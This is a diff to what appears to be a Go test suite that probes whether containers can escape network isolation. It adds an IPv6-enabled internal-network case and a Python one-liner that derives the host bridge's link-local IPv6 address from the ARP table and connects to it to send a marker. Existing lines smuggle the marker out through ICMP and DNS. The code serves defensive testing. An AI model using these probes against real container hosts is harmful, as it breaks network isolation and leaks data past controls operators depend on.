@@ -65,6 +65,7 @@ func (a attack) seenAs(m mark) string {
 const (
 	ordinary   = "an ordinary container"
 	inner      = "a container on an internal network"
+	innerSix   = "a container on an internal network, with IPv6"
 	hostNet    = "a container on the host's network"
 	netAdmin   = "a container with NET_ADMIN"
 	tunnelling = "a container with NET_ADMIN and /dev/net/tun"
@@ -76,6 +77,8 @@ func (w *attackWorld) control(name string) []string {
 	switch name {
 	case inner:
 		return []string{"--network", w.inner, "--add-host", "host.docker.internal:" + w.innerBase.Addr().Next().String()}
+	case innerSix:
+		return []string{"--network", w.inner, "--sysctl", "net.ipv6.conf.all.disable_ipv6=0"}
 	case withIPv6:
 		return []string{"--network", w.six}
 	case hostNet:
@@ -104,6 +107,23 @@ func datagram(family, protocol, to string) string {
 
 // pingSocket sends an echo request without any right: the kernel writes the header for it.
 const pingSocket = `python3 -c 'import os, socket as s; s.socket(s.AF_INET, s.SOCK_DGRAM, s.IPPROTO_ICMP).sendto(bytes([8, 0, 0, 0, 0, 0, 0, 1]) + os.environ["M"].encode(), (os.environ["S"], 0))'`
+
+// linkLocal connects to the address that a bridge of the host's makes of its own hardware
+// address (RFC 4291, appendix A), which is in the table of neighbours.
+const linkLocal = `python3 -c '
+import os, socket as s, time
+try: s.socket(s.AF_INET, s.SOCK_DGRAM).sendto(b"", (os.environ["GW"], 9))
+except OSError: pass # behind walls
+for _ in range(50):
+    macs = [l.split()[3] for l in open("/proc/net/arp").readlines()[1:] if l.split()[0] == os.environ["GW"] and l.split()[2] != "0x0"]
+    if macs: break
+    time.sleep(0.1)
+b = bytearray.fromhex(macs[0].replace(":", "")); b[0] ^= 2
+a = s.inet_ntop(s.AF_INET6, bytes.fromhex("fe80") + bytes(6) + bytes(b[:3]) + bytes.fromhex("fffe") + bytes(b[3:]))
+for _ in range(5): # an address of ones own is tried out for a second or two before it counts
+    try:
+        c = s.create_connection((a + "%eth0", int(os.environ["TCP"])), 3); c.sendall(os.environ["M"].encode()); break
+    except OSError: time.sleep(1)'`
 
 // question is the name $M.leak.test as it stands in a DNS query.
 const question = `b"\0\1\1\0\0\1\0\0\0\0\0\0\x0c" + os.environ["M"].encode() + b"\4leak\4test\0\0\1\0\1"`
